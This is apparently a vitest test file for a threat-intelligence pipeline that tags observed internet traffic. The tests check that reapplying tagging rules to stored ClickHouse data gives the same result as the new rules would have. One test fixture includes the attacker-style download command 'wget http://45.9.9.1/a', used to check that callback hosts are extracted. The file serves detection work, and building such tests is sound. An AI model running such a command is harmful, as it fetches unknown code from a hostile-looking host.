import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type ReapplyCommandOptions, runTagsReapply } from "@noisefloor/cli/commands/tags/reapply.ts";
import { readStaleRollups } from "@noisefloor/clickhouse/rollups/stale-marker.ts";
import { type CallbackSource, findCallbacks } from "@noisefloor/domain/callbacks/find-callbacks.ts";
import { tagIdFromSlug } from "@noisefloor/domain/tags/tag.ts";
import { explainRejection } from "@noisefloor/ingest/formats/explain-rejection.ts";
import { ingestBatch } from "@noisefloor/ingest/pipeline/pipeline.ts";
import type { RulesInUse } from "@noisefloor/ingest/reapply/decide.ts";
import { type ReapplyOptions, reapplyRules } from "@noisefloor/ingest/reapply/reapply.ts";
import type { RowOptions } from "@noisefloor/ingest/rows/make-rows.ts";
import type { RequestRecord } from "@noisefloor/ingest/sources/http/records.ts";
import { observationSink } from "@noisefloor/ingest/store/observation-sink.ts";
import { assignTags } from "@noisefloor/ingest/tagging/assign-tags.ts";
import { createTagger } from "@noisefloor/ingest/tagging/compiled/tagger.ts";
import type { TaggingRule } from "@noisefloor/ingest/tagging/rule.ts";
import { parseMatch } from "@noisefloor/ingest/tagging/rule-files/parse-match.ts";
import { afterEach, beforeEach, expect, test } from "vitest";
import { z } from "zod";
import { observation } from "../../support/builders/observation.ts";
import { type Random, seeded } from "../../support/builders/random.ts";
import { atVolume } from "../../support/volume.ts";
import { commandOver } from "../../support/worlds/commands.ts";
import { createWorld, makeTag, RETENTION_DAYS, type World } from "../../support/worlds/world.ts";

const NOW = Date.now();
const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const SLUGS = ["a", "b", "c", "d", "own"] as const;
const idOf = (slug: string) => tagIdFromSlug(`reapply-${slug}`);

/** The store that the rules are reapplied in, and one that had the new rules from the start. */
let world: World;
let expected: World;
beforeEach(async () => {
  [world, expected] = await Promise.all([createWorld(() => NOW), createWorld(() => NOW)]);
  for (const one of [world, expected]) {
    await one.addTags(SLUGS.map((slug) => makeTag(`reapply-${slug}`, "malicious", { id: idOf(slug) })));
  }
});
afterEach(async () => {
  await Promise.all([world.close(), expected.close()]);
});

function rulesOf(matches: Readonly<Record<string, unknown>>): RulesInUse {
  const rules = Object.entries(matches).map(([slug, match]): TaggingRule => {
    const parsed = parseMatch(match, { error: (message) => expect.fail(message), warning: () => {} });
    if (parsed === undefined) throw new Error(`${slug} is no rule`);
    return { slug: `reapply-${slug}`, match: parsed, examples: [], counterexamples: [] };
  });
  return { tagger: createTagger(rules), rules, idOf: (slug) => world.catalogue.resolve(slug)?.id };
}

const BEFORE = { a: { path: ["/1", "/2"] }, b: { "path|contains": "3" }, c: { method: "GET", path: "/4" } };
const AFTER = { a: { path: "/2" }, b: { "path|startswith": "/3" }, d: { path: ["/1", "/5"] } };

/** Stores as the intake does, with the tags of these rules. */
async function storeIn(
  to: World,
  { tagger }: RulesInUse,
  observations: readonly Record<string, unknown>[],
  more: Pick<RowOptions, "findCallbacks"> = {},
) {
  const records = observations.map(
    (one, index): RequestRecord => ({
      bytes: Buffer.from(JSON.stringify(one)),
      sender: { right: "everything" },
      fallbackId: String(one.observation_id ?? index),
      origin: "test",
      position: index + 1,
      part: index,
    }),
  );
  const rows = {
    ...more,
    assignTags: (one: Parameters<typeof assignTags>[0], ids: readonly string[]) =>
      assignTags(one, ids, to.catalogue, tagger),
  };
  const { rejected } = await ingestBatch(records, {
    catalogue: to.catalogue,
    retentionDays: () => RETENTION_DAYS,
    right: "everything",
    explain: explainRejection,
    now: () => NOW,
    sink: observationSink(to.client, { retryForMs: 0, rows }),
    storeDeadLetters: async () => {},
  }).stored;
  expect(rejected).toEqual([]);
}

let number = 0;
/** Each month is a partition of its own. */
const DAYS = atVolume(10, 60);

function randomObservations(random: Random, count: number) {
  return Array.from({ length: count }, () =>
    observation(`45.${random.int(0, 3)}.0.${random.int(1, 40)}`, NOW - random.int(1, DAYS * 24) * HOUR, {
      observation_id: `o-${number++}`,
      dataset: random.pick(["global", "community"]),
      tags: random.pick([[], [], ["reapply-own"], ["reapply-a"]]),
      http: { method: "GET", path: `/${random.int(1, 6)}` },
      ...(random.int(0, 4) === 0 && { session_id: `s-${random.int(0, 20)}` }),
    }),
  );
}

const rowsSchema = z.array(z.record(z.string(), z.unknown()));
const QUERIES = {
  observations: `SELECT source_ip, observation_id, toString(observed_at) AS at, arraySort(tags) AS tags,
    arraySort(rule_tags) AS rule_tags, arraySort(shared_tags) AS shared_tags, callbacks FROM observations FINAL ORDER BY ALL`,
  tag_activity_hourly: `SELECT tag_id, dataset, workspace_id, hour, uniqExactMerge(addresses) AS addresses
    FROM tag_activity_hourly GROUP BY ALL ORDER BY ALL`,
  tag_addresses: `SELECT tag_id, dataset, workspace_id, start, source_ip, groupBitOr(hours) AS hours
    FROM tag_addresses GROUP BY ALL ORDER BY ALL`,
  address_tags: `SELECT source_ip, dataset, workspace_id, tag_id, toString(max(last_seen)) AS latest
    FROM address_tags GROUP BY ALL ORDER BY ALL`,
  address_facets: `SELECT source_ip, dataset, workspace_id, field, value, toString(max(last_seen)) AS latest
    FROM address_facets GROUP BY ALL ORDER BY ALL`,
  callbacks: `SELECT host, source_ip, hour, port, scheme, path, text, toString(min(first_seen)) AS first
    FROM callbacks GROUP BY ALL ORDER BY ALL`,
};

async function contentOf({ client }: World) {
  const content: Record<string, unknown> = {};
  for (const [table, query] of Object.entries(QUERIES)) {
    content[table] = rowsSchema.parse(await (await client.query({ query, format: "JSONEachRow" })).json());
  }
  return content;
}

async function expectSame() {
  const [found, wanted] = [await contentOf(world), await contentOf(expected)];
  for (const table of Object.keys(QUERIES)) expect(found[table], table).toEqual(wanted[table]);
  const tables = await (await world.client.query({ query: "SHOW TABLES", format: "JSONEachRow" })).text();
  expect(tables).not.toMatch(/replacing|stale/);
}

const reapply = (matches: Readonly<Record<string, unknown>>, more: Partial<ReapplyOptions> = {}) =>
  reapplyRules(world.client, {
    rules: rulesOf(matches),
    times: { from: NOW - 100 * DAY, to: NOW + DAY },
    dryRun: false,
    now: Date.now,
    ...more,
  });

test("afterwards the store is as if the rules had always been the new ones", async () => {
  const stored = randomObservations(seeded(1), atVolume(150, 600));
  await storeIn(world, rulesOf(BEFORE), stored);
  await storeIn(expected, rulesOf(AFTER), stored);
  const before = await contentOf(world);
  const dry = await reapply(AFTER, { dryRun: true });
  expect(dry).toMatchObject({ rollups: "would be replaced", isComplete: true });
  expect(await contentOf(world), "a dry run changes nothing").toEqual(before);
  const summary = await reapply(AFTER);
  expect(summary).toEqual({ ...dry, rollups: "replaced" });
  await expectSame();
  expect(await reapply(AFTER), "nothing is left to do").toMatchObject({ changed: 0, rollups: "current" });
  await world.client.command({ query: "OPTIMIZE TABLE observations FINAL" });
  await expectSame();
});

test("rules that only give more tags leave the rollups where they are", async () => {
  const stored = randomObservations(seeded(2), atVolume(100, 200));
  await storeIn(world, rulesOf(BEFORE), stored);
  await storeIn(expected, rulesOf({ ...BEFORE, ...{ d: { path: "/6" } } }), stored);
  expect(await reapply({ ...BEFORE, d: { path: "/6" } })).toMatchObject({ rollups: "current", isComplete: true });
  await expectSame();
});

test("observations that were stored without callbacks get those that they name", async () => {
  const naming = { commands: ["wget http://45.9.9.1/a"], payload_sha256: ["ab".repeat(32)] };
  const stored = randomObservations(seeded(8), 40).map((one, index) => ({ ...one, ...(index % 4 === 0 && naming) }));
  await storeIn(world, rulesOf(BEFORE), stored, { findCallbacks: () => [] });
  await storeIn(expected, rulesOf(BEFORE), stored);
  const rules = { ...rulesOf(BEFORE), findCallbacks: (source: CallbackSource) => findCallbacks(source, () => false) };
  expect(await reapply(BEFORE, { rules })).toMatchObject({ callbacks: 10, tags: new Map(), rollups: "current" });
  await expectSame();
  expect(await reapply(BEFORE, { rules }), "nothing is left to do").toMatchObject({ changed: 0, callbacks: 0 });
});

test("what the intake stores meanwhile is counted exactly", async () => {
  const random = seeded(3);
  const stored = randomObservations(random, atVolume(100, 400));
  await storeIn(world, rulesOf(BEFORE), stored);
  await storeIn(expected, rulesOf(AFTER), stored);
  let isOver = false;
  const later: Record<string, unknown>[] = [];
  const intake = async () => {
    while (!isOver) {
      const some = randomObservations(random, 20).map(({ session_id: _none, ...rest }) => rest);
      later.push(...some);
      await storeIn(world, rulesOf(AFTER), some);
    }
  };
  const running = intake();
  const summary = await reapply(AFTER).finally(() => {
    isOver = true;
  });
  await running;
  expect(summary.rollups).toBe("replaced");
  const afterwards = randomObservations(random, 50).map(({ session_id: _none, ...rest }) => rest);
  await storeIn(world, rulesOf(AFTER), afterwards);
  await storeIn(expected, rulesOf(AFTER), [...later, ...afterwards]);
  await expectSame();
});

test("a rule that goes, comes back and goes again takes its tag away each time", async () => {
  const stored = randomObservations(seeded(6), 20).map(({ session_id: _none, ...rest }) => rest);
  const without = { b: BEFORE.b, c: BEFORE.c };
  await storeIn(world, rulesOf(BEFORE), stored);
  await storeIn(expected, rulesOf(without), stored);
  for (const rules of [without, BEFORE, without]) {
    expect((await reapply(rules)).changed).toBeGreaterThan(0);
    expect(await reapply(rules), "nothing is left to do").toMatchObject({ changed: 0 });
  }
  await expectSame();
});

test("interrupted at any step, the same call again does what is left", async () => {
  const stored = randomObservations(seeded(4), atVolume(150, 300));
  await storeIn(world, rulesOf(BEFORE), stored);
  await storeIn(expected, rulesOf(AFTER), stored);
  for (const step of ["observations", "rollups"] as const) {
    const abort = new AbortController();
    const onProgress = (at: string) => at === step && abort.abort();
    expect((await reapply(AFTER, { signal: abort.signal, onProgress })).isComplete).toBe(false);
    expect(await readStaleRollups(world.client)).toBeDefined();
  }
  expect(await reapply(AFTER)).toMatchObject({ rollups: "replaced", isComplete: true });
  await expectSame();
});

test("only the times and the tags that were asked for change", async () => {
  const random = seeded(5);
  const middle = NOW - (DAYS / 2) * DAY;
  const stored = randomObservations(random, atVolume(150, 300)).map(({ session_id: _none, ...rest }) => rest);
  const isLate = ({ observed_at }: Record<string, unknown>) => Date.parse(String(observed_at)) >= middle;
  await storeIn(world, rulesOf(BEFORE), stored);
  const mixed = { ...BEFORE, a: AFTER.a };
  await storeIn(
    expected,
    rulesOf(BEFORE),
    stored.filter((one) => !isLate(one)),
  );
  await storeIn(expected, rulesOf(mixed), stored.filter(isLate));
  const rules = { ...rulesOf(AFTER), only: new Set([idOf("a")]) };
  await reapply(AFTER, { rules, times: { from: middle, to: NOW + DAY } });
  await expectSame();
});

test("a tag stays when its rule looks at what is not stored any more, and the summary says so", async () => {
  const long = `${"x".repeat(300)} late=1`;
  const body = (ip: string, text: string, more = {}) =>
    observation(ip, NOW - HOUR, { http: { method: "POST", path: "/p", body: text }, ...more });
  const rules = {
    a: { "body|contains": "late=1" },
    b: { "body|contains": "early=1" },
    c: { path: "/p", "body|exists": false },
  };
  await storeIn(world, rulesOf(rules), [
    body("45.0.0.1", long),
    body("45.0.0.2", "late=1"),
    body("45.0.0.3", "early=1"),
  ]);
  const after = { ...rules, b: { "body|contains": "never" }, d: { "body|startswith": "xxx" } };
  const summary = await reapply(after);
  expect(summary).toMatchObject({ keptForBody: 1, rollups: "replaced" });
  const tags = async (ip: string) => {
    const query = `SELECT arraySort(arrayMap(id -> toString(id), rule_tags)) AS tags FROM observations FINAL WHERE source_ip = '${ip}'`;
    const [row] = rowsSchema.parse(await (await world.client.query({ query, format: "JSONEachRow" })).json());
    return row?.tags;
  };
  expect(await tags("45.0.0.1"), "its body is longer than its head").toEqual([idOf("a"), idOf("d")].toSorted());
  expect(await tags("45.0.0.2"), "its whole body is stored").toEqual([idOf("a")]);
  expect(await tags("45.0.0.3")).toEqual([]);
  await reapply({});
  expect(await tags("45.0.0.1"), "a rule that is gone gives nothing").toEqual([]);
});

test("a session keeps what its beginning earned", async () => {
  const rules = { a: { "login_attempts|lte": 2, application: "ssh" }, b: { "login_attempts|gte": 3 } };
  const attempt = (id: string) =>
    observation("45.0.0.1", NOW - HOUR, {
      ...{ observation_id: id, session_id: "s", application: "ssh", login_attempts: 2 },
    });
  await storeIn(world, rulesOf(rules), [attempt("1")]);
  await storeIn(world, rulesOf(rules), [attempt("2")]);
  expect(await reapply(rules)).toMatchObject({ changed: 0, keptForSession: 1 });
});

test("the command adds the tags of new rules, and says what it did", async () => {
  const folder = await mkdtemp(join(tmpdir(), "noisefloor-reapply-"));
  try {
    await mkdir(join(folder, "sub"));
    const rule = `slug: reapply-new\nname: New\ncategory: activity\nintention: malicious\ndescription: A test.
match: {path: /zzz-new}\nexamples: [{path: /zzz-new}]\n`;
    await writeFile(join(folder, "sub", "reapply-new.yaml"), rule);
    await world.store([observation("45.0.0.9", NOW - HOUR, { http: { path: "/zzz-new" } })]);
    const run = async (more: Partial<ReapplyCommandOptions>) => {
      const command = commandOver(world);
      const settings = { ...command.settings, tagRulesDirectory: folder };
      await runTagsReapply({ since: "7d", tag: [], dryRun: false, json: true, ...more }, { ...command, settings });
      return JSON.parse(command.lines.join("\n"));
    };
    const change = { changed: 1, tags: expect.arrayContaining([{ tag: expect.any(String), added: 1, removed: 0 }]) };
    expect(await run({ dryRun: true })).toMatchObject({ dry_run: true, ...change });
    expect(await run({ tag: ["reapply-new"] })).toMatchObject({
      changed: 1,
      tags: [{ tag: "reapply-new", added: 1, removed: 0 }],
      is_complete: true,
    });
    await world.refresh();
    expect(await world.get("/v3/ip/45.0.0.9")).toMatchObject({
      body: { internet_scanner_intelligence: { tags: [{ slug: "reapply-new" }], classification: "malicious" } },
    });
    await expect(run({ tag: ["nobody"] })).rejects.toThrow('there is no tag "nobody"');
    await expect(run({ until: "30d" })).rejects.toThrow("--since is not before --until");
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
});
